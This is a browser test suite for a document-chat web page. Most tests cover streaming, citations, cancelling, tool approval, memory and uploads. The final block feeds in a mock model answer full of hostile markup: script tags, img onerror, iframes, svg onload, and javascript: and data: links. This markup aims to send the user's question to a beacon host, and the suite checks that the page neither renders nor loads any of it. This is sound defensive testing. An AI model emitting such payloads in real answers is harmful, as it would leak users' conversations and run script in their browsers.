/**
 * The page at `/` in headless Chromium against the offline server: streaming text, the offline
 * badge, citations that open their source, meters, Cancel, and tool approvals; and against a
 * model (the mock provider) whose answer carries markup that would load a beacon or run script.
 * Needs Chromium (CHROMIUM_PATH or /usr/bin/chromium); DOCS_CHAT_SKIP_BROWSER=1 skips it.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { type MockProvider, startMockProvider } from '@keel/testing';
import { type BrowserContext, chromium, type Locator, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import { CHROMIUM_ARGS, chromiumPath, SKIP_BROWSER } from './chromium.js';
import { startTestApp } from './start-test-app.js';

/** Words are streamed this many ms apart, so a turn is slow enough to watch and to cancel. */
const PACE_MS = 40;
/** Generous: two cores shared with other suites. */
const WAIT_MS = 60_000;

/** Headless Chromium with its profile in `userDataDir`. */
async function launchChromium(userDataDir: string): Promise<BrowserContext> {
  return chromium.launchPersistentContext(userDataDir, {
    executablePath: chromiumPath(),
    headless: true,
    args: CHROMIUM_ARGS,
  });
}

interface Turn {
  role: 'user' | 'assistant';
  text: string;
  outcome?: string;
  citations: { citationId: string; text: string }[];
  usage?: { inputTokens: number; outputTokens: number; costUsd: number };
}

describe.skipIf(SKIP_BROWSER)('docs-chat page in Chromium', () => {
  let app: Awaited<ReturnType<typeof startTestApp>>;
  let context: BrowserContext;
  let userDataDir: string;
  /** Console errors, uncaught exceptions and failed loads (CSP violations land here too). */
  const pageErrors: string[] = [];
  /** Set while a test makes the server refuse on purpose. */
  let refusalsExpected = false;

  beforeAll(async () => {
    app = await startTestApp({ env: { DOCS_CHAT_OFFLINE_PACE_MS: String(PACE_MS) } });
    userDataDir = await mkdtemp(join(tmpdir(), 'docs-chat-chromium-'));
    context = await launchChromium(userDataDir);
  });

  afterAll(async () => {
    await context?.close();
    await app?.close();
    if (userDataDir) await rm(userDataDir, { recursive: true, force: true });
  });

  /** A page on a fresh conversation. */
  async function openPage(): Promise<Page> {
    const page = await context.newPage();
    page.on('console', (m) => {
      // Failed loads are reported below with their URL.
      if (m.type() === 'error' && !m.text().startsWith('Failed to load resource')) {
        pageErrors.push(m.text());
      }
    });
    page.on('pageerror', (e) => pageErrors.push(e.message));
    page.on('response', (r) => {
      if (r.status() >= 400 && !r.url().endsWith('/favicon.ico') && !refusalsExpected) {
        pageErrors.push(`${r.status()} ${r.url()}`);
      }
    });
    await page.goto(app.url);
    await page.getByTestId('new-chat').click();
    return page;
  }

  async function ask(page: Page, question: string): Promise<Locator> {
    const before = await page.locator('[data-role="assistant"]').count();
    await page.getByTestId('input').fill(question);
    await page.getByTestId('send').click();
    const message = page.locator('[data-role="assistant"]').nth(before);
    await message.waitFor({ timeout: WAIT_MS });
    return message;
  }

  async function waitForOutcome(message: Locator, outcome: string): Promise<void> {
    await message.and(message.page().locator(`[data-outcome="${outcome}"]`)).waitFor({
      timeout: WAIT_MS,
    });
  }

  async function conversation(page: Page): Promise<{ turns: Turn[] }> {
    const ids = await page.evaluate(() => ({
      user: localStorage.getItem('docs-chat.userId') ?? '',
      conversation: localStorage.getItem('docs-chat.conversationId') ?? '',
    }));
    expect(ids.conversation).not.toBe('');
    const res = await page.request.get(`${app.url}/api/conversations/${ids.conversation}`, {
      headers: { 'x-user-id': ids.user },
    });
    expect(res.status()).toBe(200);
    return (await res.json()) as { turns: Turn[] };
  }

  it('streams an answer with the offline badge, clickable citations and meters', async () => {
    const page = await openPage();
    // The mode is shown before the first question.
    const badge = page.getByTestId('mode-badge');
    await badge.waitFor({ timeout: WAIT_MS });
    expect(await badge.textContent()).toContain('Offline mode');
    // Record what the streaming message shows on every change, before the first event lands.
    await page.evaluate(() => {
      const seen: { length: number; outcome: string; meter: string }[] = [];
      Object.assign(window, { seen });
      new MutationObserver(() => {
        const message = Array.from(document.querySelectorAll('[data-role="assistant"]')).at(-1);
        const text = message?.querySelector('[data-testid="message-text"]')?.textContent ?? '';
        seen.push({
          length: text.length,
          outcome: message?.getAttribute('data-outcome') ?? '',
          meter: message?.querySelector('[data-testid="message-meter"]')?.textContent ?? '',
        });
      }).observe(document.body, { subtree: true, childList: true, characterData: true });
    });
    await page.getByTestId('input').fill('How do budgets work?');
    await page.getByTestId('input').press('Enter'); // sends without the mouse
    const message = page.locator('[data-role="assistant"]').first();
    await message.waitFor({ timeout: WAIT_MS });
    await expect(page.getByTestId('cancel').isEnabled()).resolves.toBe(true);
    await waitForOutcome(message, 'stop');

    const seen = (await page.evaluate(() => Reflect.get(window, 'seen'))) as {
      length: number;
      outcome: string;
      meter: string;
    }[];
    const streamingLengths = new Set(
      seen.filter((s) => s.outcome === 'streaming' && s.length > 0).map((s) => s.length),
    );
    expect(streamingLengths.size).toBeGreaterThanOrEqual(2);
    // Before the server counts the streamed text, the meter shows an estimate marked "~".
    expect(seen.some((s) => s.outcome === 'streaming' && /~\d+ out/.test(s.meter))).toBe(true);
    const finalText = (await message.getByTestId('message-text').textContent()) ?? '';
    expect(finalText.length).toBeGreaterThan(Math.max(...streamingLengths) - 1);
    expect(await page.getByTestId('cancel').isEnabled()).toBe(false);

    expect(await badge.isVisible()).toBe(true);
    expect(await badge.textContent()).toContain('Offline mode');
    expect(await badge.textContent()).toContain('OPENAI_API_KEY');
    expect(await badge.textContent()).toContain('OPENAI_BASE_URL');
    // The empty input suggests a question about the served documents (the fixture corpus).
    expect(await page.getByTestId('input').getAttribute('placeholder')).toBe(
      'What does “Budgets” cover?',
    );
    // The answer's markdown is rendered: its quotes are list items, not "- " lines.
    expect(await message.getByTestId('message-text').locator('li').count()).toBeGreaterThan(0);
    expect(finalText).not.toMatch(/^- /m);

    // A citation in the text opens the panel with the chunk the server cited.
    const citation = message.getByTestId('citation').first();
    const citationId = (await citation.getAttribute('data-citation-id')) ?? '';
    expect(finalText).toContain(`[${citationId}]`);
    await citation.focus();
    await page.keyboard.press('Enter'); // opens without the mouse
    const panel = page.getByTestId('source-panel');
    await panel.waitFor({ timeout: WAIT_MS });
    const { turns } = await conversation(page);
    const assistantTurn = turns.find((t) => t.role === 'assistant');
    const cited = assistantTurn?.citations.find((c) => c.citationId === citationId);
    expect(cited).toBeDefined();
    expect(await panel.getByTestId('source-text').textContent()).toBe(cited?.text);
    // The chunk's markup is shown as text, never rendered.
    expect(cited?.text).toContain('<b>tokens and dollars</b>');
    expect(await panel.locator('b').count()).toBe(0);
    expect(await panel.textContent()).toContain(citationId.split('#')[0]);
    await page.keyboard.press('Escape');
    expect(await panel.isVisible()).toBe(false);
    expect(await citation.evaluate((node) => node === document.activeElement)).toBe(true);
    expect(await message.getByTestId('source-link').count()).toBeGreaterThan(0);

    // Meters: server counts, not the "~" estimate.
    const meter = (await message.getByTestId('message-meter').textContent()) ?? '';
    expect(meter).toMatch(/^[\d,]+ in · [\d,]+ out · \$\d+\.\d+$/);
    expect(meter).not.toMatch(/^0 in/);
    expect(meter).not.toMatch(/ 0 out/);
    const total = (await page.getByTestId('conversation-meter').textContent()) ?? '';
    expect(total).toMatch(/[1-9][\d,]* in · [1-9][\d,]* out/);

    // A reload restores the conversation from the server.
    await page.reload();
    const restored = page.locator('[data-role="assistant"]').first();
    await restored.getByTestId('citation').first().waitFor({ timeout: WAIT_MS });
    expect(await page.locator('[data-role="user"]').first().textContent()).toContain(
      'How do budgets work?',
    );
    expect(await restored.getByTestId('message-text').textContent()).toBe(finalText);
    await page.close();
  });

  it('cancels a streaming turn and keeps the input usable', async () => {
    const page = await openPage();
    const message = await ask(page, 'How are tokens counted and what does a turn cost?');
    await page.waitForFunction(
      () =>
        (document.querySelector('[data-role="assistant"] [data-testid="message-text"]')?.textContent
          ?.length ?? 0) > 0,
      undefined,
      { timeout: WAIT_MS },
    );
    await page.getByTestId('cancel').click();
    await waitForOutcome(message, 'cancelled');
    expect(await message.getByTestId('message-status').textContent()).toContain('Cancelled');
    const input = page.getByTestId('input');
    expect(await input.isEnabled()).toBe(true);
    expect(await page.getByTestId('send').isEnabled()).toBe(true);
    expect(await page.getByTestId('cancel').isEnabled()).toBe(false);
    await input.fill('still usable');
    expect(await input.inputValue()).toBe('still usable');

    // The text stops growing, and the server recorded the turn as cancelled.
    const atCancel = await message.getByTestId('message-text').textContent();
    const stored = await vi.waitFor(
      async () => {
        const { turns } = await conversation(page);
        const answer = turns.filter((t) => t.role === 'assistant').at(-1);
        expect(answer?.outcome).toBe('cancelled');
        return answer?.usage;
      },
      { timeout: WAIT_MS, interval: 100 },
    );
    expect(await message.getByTestId('message-text').textContent()).toBe(atCancel);
    // The meter leaves its estimate ("~") for what the server stored, as a reload shows it.
    expect(stored?.outputTokens).toBeGreaterThan(0);
    const count = new Intl.NumberFormat('en-US');
    await vi.waitFor(
      async () =>
        expect(await message.getByTestId('message-meter').textContent()).toBe(
          `${count.format(stored?.inputTokens ?? 0)} in · ${count.format(stored?.outputTokens ?? 0)} out · $0.0000`,
        ),
      { timeout: WAIT_MS, interval: 100 },
    );
    await page.close();
  });

  for (const decision of ['approve', 'deny'] as const) {
    it(`runs save_note only after approval (${decision})`, async () => {
      const page = await openPage();
      // Markup in what the user typed comes back in the approval and the answer: shown as text.
      let message = await ask(page, 'Save a note: check the HNSW ef setting <b id="xss">!</b>');
      await message.getByTestId(decision).waitFor({ timeout: WAIT_MS });
      await waitForOutcome(message, 'pending-approval');
      if (decision === 'deny') {
        // After a reload the decision is still on offer: the page restores the waiting call.
        await page.reload();
        message = page.locator('[data-role="assistant"]').last();
        await message.getByTestId(decision).waitFor({ timeout: WAIT_MS });
      }
      const line = message
        .getByTestId('tool-line')
        .and(page.locator('[data-tool-name="save_note"]'));
      expect(await line.getAttribute('data-status')).toBe('pending-approval');
      // The user sees what would run: the tool and its input.
      expect(await line.textContent()).toContain('save_note');
      expect(await line.locator('pre').textContent()).toContain('HNSW ef setting');
      await message.getByTestId(decision).click();
      const status = decision === 'approve' ? 'done' : 'denied';
      await line.and(page.locator(`[data-status="${status}"]`)).waitFor({ timeout: WAIT_MS });
      await waitForOutcome(message, 'stop');
      expect(await message.getByTestId('approve').count()).toBe(0);
      expect(await page.locator('#xss').count()).toBe(0);
      expect(await page.locator('[data-role="user"]').textContent()).toContain('<b id="xss">');
      if (decision === 'approve') {
        expect(await message.getByTestId('message-text').textContent()).toContain('<b id="xss">');
      }
      await page.close();
    });
  }

  it('shows refusals from the server, with field errors and Retry-After', async () => {
    const page = await openPage();
    refusalsExpected = true;
    onTestFinished(() => {
      refusalsExpected = false;
    });
    const refusals: {
      status: number;
      headers: Record<string, string>;
      error: { code: string; message: string; fields?: Record<string, string> };
    }[] = [
      {
        status: 400,
        headers: {},
        error: {
          code: 'invalid_request',
          message: 'The body has invalid fields',
          fields: { message: 'must not be empty' },
        },
      },
      {
        status: 429,
        headers: { 'retry-after': '7' },
        error: { code: 'rate_limited', message: 'Too many requests' },
      },
    ];
    for (const { status, headers, error } of refusals) {
      await page.route('**/api/chat', (route) =>
        route.fulfill({
          status,
          headers: { 'content-type': 'application/json', ...headers },
          body: JSON.stringify({ error }),
        }),
      );
      await page.getByTestId('input').fill('How do budgets work?');
      await page.getByTestId('send').click();
      await page.getByTestId('error').filter({ hasText: error.code }).waitFor({ timeout: WAIT_MS });
      const shown = (await page.getByTestId('error').textContent()) ?? '';
      expect(shown).toContain(error.message);
      expect(shown).toContain(error.code);
      if (status === 400) expect(shown).toContain('message: must not be empty');
      if (status === 429) expect(shown).toContain('7 s');
      expect(await page.getByTestId('send').isEnabled()).toBe(true);
      // The refused question is not in the list; it is back in the input to edit or resend.
      expect(await page.getByTestId('message').count()).toBe(0);
      expect(await page.getByTestId('input').inputValue()).toBe('How do budgets work?');
      await page.unroute('**/api/chat');
    }
    await page.close();
  });

  it('remembers what the user states, cites it in a new conversation, and forgets it', async () => {
    const page = await openPage();
    const told = await ask(page, 'My dog is called Biscuit.');
    await waitForOutcome(told, 'stop');
    // The section refreshes when the turn finishes: the fact, its source, date and confidence.
    const fact = page
      .getByTestId('memory-fact')
      .filter({ hasText: "The user's dog is called Biscuit." });
    await fact.waitFor({ timeout: WAIT_MS });
    expect(await fact.textContent()).toMatch(
      /you said it in a conversation \(message 1\) · \d{4}-\d{2}-\d{2} · confidence 0\.6/,
    );
    const factId = (await fact.getAttribute('data-fact-id')) ?? '';

    // Another conversation: the answer comes from memory, cited like a document.
    await page.getByTestId('new-chat').click();
    const answer = await ask(page, "What's my dog's name?");
    await waitForOutcome(answer, 'stop');
    const citation = answer.getByTestId('citation').first();
    expect(await citation.getAttribute('data-citation-id')).toBe(`memory:${factId}`);
    await citation.click();
    const panel = page.getByTestId('source-panel');
    await panel.waitFor({ timeout: WAIT_MS });
    expect(await panel.getByTestId('source-text').textContent()).toBe(
      "The user's dog is called Biscuit.",
    );
    await page.getByTestId('source-close').click();

    // Forgotten: gone from the section, and the next answer no longer knows it.
    await fact.getByRole('button', { name: /^Forget/ }).click();
    await fact.waitFor({ state: 'detached', timeout: WAIT_MS });
    await page.getByTestId('new-chat').click();
    const after = await ask(page, "What's my dog's name?");
    await waitForOutcome(after, 'stop');
    expect(await after.getByTestId('message-text').textContent()).not.toContain('Biscuit');
    expect(await after.locator('[data-citation-id^="memory:"]').count()).toBe(0);
  });

  it('uploads documents with progress, lists and removes them, and keeps them from other users', async () => {
    const page = await openPage();
    const userId = await page.evaluate(() => localStorage.getItem('docs-chat.userId') ?? '');
    // Record the progress bar's share on every change.
    await page.evaluate(() => {
      const shares: number[] = [];
      Object.assign(window, { shares });
      const bar = document.getElementById('upload-progress') as HTMLProgressElement;
      new MutationObserver(() => shares.push(bar.value / bar.max)).observe(bar, {
        attributes: true,
      });
    });
    await page.getByTestId('upload-input').setInputFiles([
      {
        name: 'lighthouse.md',
        mimeType: 'text/markdown',
        buffer: Buffer.from(
          '# Lighthouse keeping\n\nThe lighthouse keeper trims the lamp wick every dusk.\n',
        ),
      },
      { name: 'archive.md', mimeType: 'text/markdown', buffer: gzipSync('hidden words') },
    ]);
    const status = page.getByTestId('upload-status');
    await status.filter({ hasText: 'added' }).waitFor({ timeout: WAIT_MS });
    expect(await status.textContent()).toBe('1 added, 0 unchanged, 1 skipped.');
    expect(await page.getByTestId('upload-files').locator('li').allTextContents()).toEqual([
      'lighthouse.md: read as markdown',
      expect.stringMatching(/^archive\.md: skipped, the content is gzip, whatever its name says/),
    ]);
    const shares = (await page.evaluate(() => Reflect.get(window, 'shares'))) as number[];
    expect(shares.some((share) => share > 0 && share < 1)).toBe(true);
    expect(shares.at(-1)).toBe(1);
    const listed = page.getByTestId('document-list').locator('li');
    expect(await listed.getAttribute('data-source-id')).toBe(`uploads/${userId}/lighthouse.md`);

    const question = 'When does the lighthouse keeper trim the lamp wick?';
    await waitForOutcome(await ask(page, question), 'stop');
    const own = (await conversation(page)).turns.at(-1);
    expect(own?.citations.map((c) => c.citationId).join()).toContain('lighthouse.md');

    // Another user (another id in this browser) neither lists it nor gets it cited.
    const other = await context.newPage();
    await other.goto(app.url);
    await other.evaluate(() => localStorage.setItem('docs-chat.userId', 'another-reader'));
    try {
      await other.reload();
      await other.getByTestId('new-chat').click();
      await waitForOutcome(await ask(other, question), 'stop');
      const theirs = (await conversation(other)).turns.at(-1);
      expect(theirs?.citations.map((c) => c.citationId).join()).not.toContain('lighthouse');
      expect(await other.getByTestId('document-list').locator('li').count()).toBe(0);
    } finally {
      await other.evaluate((id) => localStorage.setItem('docs-chat.userId', id), userId);
      await other.close();
    }

    await listed.getByRole('button', { name: /Remove/ }).click();
    await status.filter({ hasText: 'Removed lighthouse.md.' }).waitFor({ timeout: WAIT_MS });
    expect(await listed.count()).toBe(0);
  });

  it('shows no console errors or CSP violations', () => {
    expect(pageErrors).toEqual([]);
  });
});

/** A value the page keeps in localStorage at `url`. */
async function stored(context: BrowserContext, url: string, key: string): Promise<string> {
  const page = await context.newPage();
  await page.goto(url);
  const value = await page.evaluate((name) => localStorage.getItem(name) ?? '', key);
  await page.close();
  return value;
}
const conversationOf = (context: BrowserContext, url: string) =>
  stored(context, url, 'docs-chat.conversationId');
const userOf = (context: BrowserContext, url: string) => stored(context, url, 'docs-chat.userId');

describe.skipIf(SKIP_BROWSER)('docs-chat page in Chromium, rendering a hostile answer', () => {
  /** What the model sent, before the output guard. */
  let sent = '';
  /** Requests the beacon received: anything loaded from the answer lands here. */
  const beaconHits: string[] = [];
  let beacon: Server;
  let beaconUrl: string;
  let provider: MockProvider;
  let app: Awaited<ReturnType<typeof startTestApp>>;
  let context: BrowserContext;
  let userDataDir: string;

  beforeAll(async () => {
    beacon = createServer((request, response) => {
      beaconHits.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg/>');
    });
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve));
    beaconUrl = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`;
    provider = await startMockProvider();
    // The model replies with markup meant to load the beacon (carrying the question) and to
    // run script; the page must show whatever the model sent as text.
    provider.respondWith('openai.chat', (request) => {
      const messages = request.body.messages as Array<{ role: string; content: unknown }>;
      // The user message ends with the question, after the retrieved documents.
      const question = encodeURIComponent(
        String(messages.filter((m) => m.role === 'user').at(-1)?.content ?? '')
          .split('\n')
          .at(-1) ?? '',
      );
      const beam = `${beaconUrl}/collect?q=${question}`;
      sent = [
        'Budgets are per user and per day.',
        `![status](${beam}&via=markdown-image)`,
        `[the docs](${beam}&via=markdown-link)`,
        `<img src="${beam}&via=img" onerror="window.__pwned = 'img'">`,
        `<script>window.__pwned = 'script'; fetch('${beam}&via=script')</script>`,
        `<iframe src="${beam}&via=iframe"></iframe>`,
        "[click me](javascript:window.__pwned='javascript-link')",
        `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
        '',
        '| Limit | Default |',
        '| --- | ---: |',
        '| tokens | 2,000,000 |',
        '',
        '```ts',
        "const budget = createBudget({ limit: 1, note: '<script>' });",
        '```',
        '',
        'That is all about budgets.',
      ].join('\n');
      return {
        text: sent,
      };
    });
    app = await startTestApp({
      env: {
        DOCS_CHAT_PROVIDER: 'openai',
        OPENAI_API_KEY: 'test-key-not-real',
        OPENAI_BASE_URL: provider.openaiBaseURL,
      },
    });
    userDataDir = await mkdtemp(join(tmpdir(), 'docs-chat-chromium-hostile-'));
    context = await launchChromium(userDataDir);
  });

  afterAll(async () => {
    await context?.close();
    await app?.close();
    await provider?.close();
    await new Promise((resolve) => beacon?.close(resolve));
    if (userDataDir) await rm(userDataDir, { recursive: true, force: true });
  });

  /** A page that records every request to another origin and every dialog. */
  async function watchedPage(): Promise<{ page: Page; foreign: string[]; dialogs: string[] }> {
    const page = await context.newPage();
    const foreign: string[] = [];
    const dialogs: string[] = [];
    page.on('request', (request) => {
      if (new URL(request.url()).origin !== new URL(app.url).origin) foreign.push(request.url());
    });
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      dialog.dismiss().catch(() => {});
    });
    await page.goto(app.url);
    return { page, foreign, dialogs };
  }

  it('loads nothing, runs nothing, and shows the markup as text', async () => {
    const { page, foreign, dialogs } = await watchedPage();
    await page.getByTestId('new-chat').click();
    await page.getByTestId('input').fill('How do budgets work?');
    await page.getByTestId('send').click();
    const message = page.locator('[data-role="assistant"]').first();
    await message.and(page.locator('[data-outcome="stop"]')).waitFor({ timeout: WAIT_MS });
    expect(provider.requests.length).toBeGreaterThan(0);
    // Clicking every link in the answer, if any were made, must not run or load anything.
    for (const link of await message.getByTestId('message-text').locator('a').all()) {
      expect(await link.getAttribute('href')).not.toMatch(/^\s*javascript:|127\.0\.0\.1/i);
    }
    // The page is settled (the answer is stored) before anything it might load is counted.
    await page.reload();
    await page.locator('[data-role="assistant"]').first().waitFor({ timeout: WAIT_MS });
    const restored = page.locator('[data-role="assistant"]').first().getByTestId('message-text');
    for (const view of [message.getByTestId('message-text'), restored]) {
      if (!(await view.count())) continue;
      expect(await view.locator('img, script, iframe, svg, object, embed, image').count()).toBe(0);
    }
    // The table and the highlighted code block render, in the streamed and the restored answer.
    for (const view of [message.getByTestId('message-text'), restored]) {
      if (!(await view.count())) continue;
      expect(await view.locator('th').allTextContents()).toEqual(['Limit', 'Default']);
      expect(await view.locator('td').allTextContents()).toEqual(['tokens', '2,000,000']);
      const code = view.locator('pre code.language-ts');
      expect(await code.locator('.hljs-keyword').count()).toBeGreaterThan(0);
      expect(await code.textContent()).toContain("note: '<script>'");
    }
    const text = (await restored.textContent()) ?? '';
    expect(text).toContain('Budgets are per user and per day.');
    expect(text).toContain('That is all about budgets.');
    // Whatever markup an output guard lets through is shown as characters, not rendered.
    for (const markup of ['<script>', '<img ', '<iframe ', '<svg ', '![status](']) {
      if (text.includes(markup.slice(0, 4))) expect(text).toContain(markup);
    }
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
    expect(beaconHits).toEqual([]);
    expect(foreign).toEqual([]);
    expect(dialogs).toEqual([]);
    await page.close();

    // The control: the same answer rendered as HTML in a blank page loads the beacon, with the
    // question, and runs its script; so the zero above is the page's doing.
    const { turns } = (await (
      await fetch(`${app.url}/api/conversations/${await conversationOf(context, app.url)}`, {
        headers: { 'x-user-id': await userOf(context, app.url) },
      })
    ).json()) as { turns: Array<{ role: string; text: string }> };
    const answer = turns.find((turn) => turn.role === 'assistant')?.text ?? '';
    // The output guard stored it neutralised; the model's own reply is the control.
    expect(answer).not.toContain(beaconUrl);
    const blank = await context.newPage();
    await blank.setContent(sent);
    await blank.waitForFunction(() => Reflect.get(window, '__pwned') !== undefined);
    await vi.waitFor(() => expect(beaconHits.length).toBeGreaterThan(0), { timeout: WAIT_MS });
    expect(beaconHits[0]).toContain(encodeURIComponent('How do budgets work?'));
    await blank.close();
  });

  it('renders hostile markdown and HTML that reached the page unguarded without running or loading it', async () => {
    const { page, foreign, dialogs } = await watchedPage();
    // Its own path: the control of the test before loads the beacon on purpose.
    const beam = `${beaconUrl}/unguarded?q=secret`;
    const hostile = [
      `![md image](${beam}&via=markdown-image)`,
      `![ref image][beacon]`,
      `![protocol-relative](//${new URL(beaconUrl).host}/unguarded?via=protocol-relative)`,
      `<${beam}&via=autolink>`,
      `[link](${beam}&via=markdown-link)`,
      "[js](javascript:alert('markdown-link'))",
      '[encoded js](&#x6A;avascript:alert(1))',
      "[data](data:text/html,<script>alert('data')</script>)",
      `<img src="${beam}&via=img" onerror="window.__pwned = 'img'">`,
      "<script>window.__pwned = 'script'</script>",
      `<iframe src="${beam}&via=iframe"></iframe>`,
      `<svg onload="window.__pwned = 'svg'"><image href="${beam}&via=svg"/></svg>`,
      `<a href="${beam}&via=html-link">html link</a>`,
      '<details open ontoggle="window.__pwned = \'details\'">x</details>',
      `<style>body { background: url(${beam}&via=style) }</style>`,
      '[allowed](https://docs.example.com/guide)',
      // `com` on the list is the host `com` alone, not every host under it.
      '[under a one-label entry](https://evil.com/tld)',
      '| a | b |\n| - | - |\n| <img src=x onerror=alert(1)> | `<b>` |',
      `\`\`\`html\n<script>fetch('${beam}&via=code')</script>\n\`\`\``,
      `[beacon]: ${beam}&via=reference-definition`,
    ].join('\n\n');
    // The renderer the page uses for every answer, fed directly: what the output guard
    // neutralises upstream must not run or load here either.
    await page.evaluate(`import('/render.js').then(({ renderMarkdown }) => {
      const box = document.createElement('div');
      box.id = 'rendered';
      box.append(renderMarkdown(${JSON.stringify(hostile)}, ['docs.example.com', 'com']));
      document.body.append(box);
    })`);
    await page.waitForLoadState('networkidle');
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(resolve)));
    const box = page.locator('#rendered');
    expect(
      await box.locator('img, script, iframe, svg, image, style, object, embed, details').count(),
    ).toBe(0);
    const hrefs = await box
      .locator('a[href]')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')));
    expect(hrefs).toEqual(['https://docs.example.com/guide']);
    expect(await box.locator('a[href]').getAttribute('rel')).toContain('noopener');
    expect(await box.locator('td').first().textContent()).toBe('<img src=x onerror=alert(1)>');
    expect(await box.locator('pre code').textContent()).toContain('<script>fetch(');
    expect(await box.textContent()).toContain('(image removed: md image)');
    expect(await page.evaluate(() => Reflect.get(window, '__pwned'))).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(foreign).toEqual([]);
    expect(beaconHits.filter((hit) => hit.startsWith('/unguarded'))).toEqual([]);
    await page.close();
  });
});
